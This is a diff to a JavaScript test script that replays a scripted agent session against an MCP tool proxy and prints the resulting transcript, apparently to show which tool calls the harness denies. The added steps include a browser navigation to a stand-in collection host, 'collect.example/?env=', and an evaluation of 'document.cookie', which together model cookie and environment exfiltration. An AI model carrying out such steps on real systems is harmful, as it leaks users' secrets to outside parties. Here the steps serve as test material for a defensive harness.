@@ -1,6 +1,6 @@
-// Plays the mission against a proxy that runs, and prints what an agent sees: `node transcript.mjs URL DESK`. What differs from run to
-// run (places, times, digests of commits) is written as `…`.
-const [url, desk] = process.argv.slice(2);
+// Plays the mission against a proxy that runs, and prints what an agent sees: `node transcript.mjs URL DESK PAGE [with-browser]`. What differs from
+// run to run (places, times, digests of commits) is written as `…`.
+const [url, desk, page, browser] = process.argv.slice(2);
 const letter = `${desk}/letter-17.txt`;
 const filed = `${desk}/filed/letter-17.md`;
 const steps = [
@@ -26,11 +26,25 @@ const steps = [
   ['git_git_log', { path: desk, maxCount: 1 }],
   ['git_git_push', { path: desk, remote: 'origin' }],
   ['calc_hash', { input: '3819.00', algorithm: 'sha256' }],
+  ['everything_trigger-elicitation-request', {}],
+  ['everything_trigger-sampling-request', { prompt: 'One line about invoice 2027-031, please.', maxTokens: 50 }],
+  ['web_browser_navigate', { url: `${page}/supplier` }],
+  ['web_browser_snapshot', {}],
+  ['web_browser_navigate', { url: 'https://collect.example/?env=' }],
+  ['web_browser_evaluate', { function: '() => document.cookie' }],
 ];
+
+// What the person at the agent, and the agent's model, answer to what a tool asks.
+const answers = {
+  'elicitation/create': () => ({ action: 'accept', content: { name: 'Ada Archivist', check: true, untitledSingleSelectEnum: 'Monica' } }),
+  'sampling/createMessage': () => ({ role: 'assistant', model: 'a-model', stopReason: 'endTurn', content: { type: 'text', text: 'Two pumps, 3819.00, due at the end of April.' } }),
+};
 
 const visible = text => text
   .replaceAll(desk, '~')
+  .replaceAll(page, 'http://…')
   .replace(/\d{4}-\d\d-\d\dT[\d:.]+(Z|[+-]\d\d:\d\d)/g, '…')
+  .replace(/page-[\dTZ-]+\.yml/g, 'page-….yml')
   .replace(/\b[0-9a-f]{7,40}\b/g, '…')
   .replace(/"timestamp":\s*\d+/g, '"timestamp": …');
 
@@ -43,7 +57,7 @@ async function ask(id, method, params) {
     },
     body: JSON.stringify({
       jsonrpc: '2.0', id, method,
-      params: { ...params, _meta: { 'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientCapabilities': {} } },
+      params: { ...params, _meta: { 'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientCapabilities': { elicitation: { form: {} }, sampling: {} } } },
     }),
   });
   const text = await response.text();
@@ -56,10 +70,26 @@ const listed = (await ask(0, 'tools/list', {})).tools.map(tool => tool.name);
 console.log(`# A letter is filed\n\nThe agent is shown ${listed.length} tools of ${new Set(listed.map(name => name.split('_')[0])).size} servers:\n\n${listed.map(name => `\`${name}\``).join(', ')}\n`);
 let number = 0;
 for (const [name, args] of steps) {
-  const result = await ask(++number, 'tools/call', { name, arguments: args });
+  console.log(`## ${++number}. ${name}\n\n\`${visible(JSON.stringify(args))}\`\n`);
+  if (name.startsWith('web_') && !browser) {
+    console.log('**Left out**: this machine has no Chromium.\n');
+    continue;
+  }
+
+  let result = await ask(number, 'tools/call', { name, arguments: args });
+  while (result.resultType === 'input_required') {
+    const inputResponses = {};
+    for (const [key, { method, params }] of Object.entries(result.inputRequests)) {
+      inputResponses[key] = answers[method](params);
+      const question = params.message ?? params.messages.map(message => message.content.text).join('\n');
+      console.log(`**Asked** (\`${method}\`): ${question}\n\n**Answered**: \`${JSON.stringify(inputResponses[key].content)}\`\n`);
+    }
+
+    result = await ask(number, 'tools/call', { name, arguments: args, inputResponses, requestState: result.requestState });
+  }
+
   const denial = result.structuredContent?.denied ? result.structuredContent : result._meta?.['harness-mcp/denial'];
   const text = result.content.map(part => part.text ?? `[${part.type}]`).join('\n').trim();
   const shown = visible(text.length > 600 ? `${text.slice(0, 600)} …` : text);
-  console.log(`## ${number}. ${name}\n\n\`${visible(JSON.stringify(args))}\`\n`);
   console.log(denial ? `**Denied** (\`${denial.reason}\`): ${shown}\n` : `${shown.split('\n').map(line => `    ${line}`.trimEnd()).join('\n')}\n`);
 }
